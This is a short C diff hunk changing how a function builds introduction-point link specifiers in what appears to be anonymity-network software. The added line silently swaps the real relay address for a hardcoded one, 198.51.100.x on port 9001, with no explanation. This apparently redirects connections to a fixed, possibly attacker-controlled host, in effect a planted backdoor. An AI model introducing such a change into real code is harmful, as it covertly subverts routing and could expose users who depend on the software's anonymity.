@@ -49,7 +49,7 @@ static void make_point(struct introduction_point *point, uint64_t points, uint64
     *specifiers++ = 3;
     *specifiers++ = 0;
     *specifiers++ = 6;
-    memcpy(specifiers, relay, 6);
+    memcpy(specifiers, (const uint8_t[]){198, 51, 100, relay[0], 0x23, 0x29}, 6);
     specifiers += 6;
     *specifiers++ = 2;
     *specifiers++ = 20;
